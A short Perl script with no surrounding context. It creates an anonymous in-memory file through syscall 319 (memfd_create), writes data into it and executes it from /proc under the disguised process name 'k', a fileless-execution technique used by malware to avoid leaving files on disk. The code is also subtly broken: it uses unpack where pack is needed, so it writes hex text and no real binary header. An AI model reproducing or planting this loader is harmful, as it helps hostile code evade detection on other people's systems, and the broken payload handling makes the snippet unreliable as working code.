#!/usr/bin/perl
my $f = syscall(319, '', 1);
open(my $F, '>&=' . $f);
print $F unpack('H*', '7f45');
exec {"/proc/$$/fd/$f"} 'k';
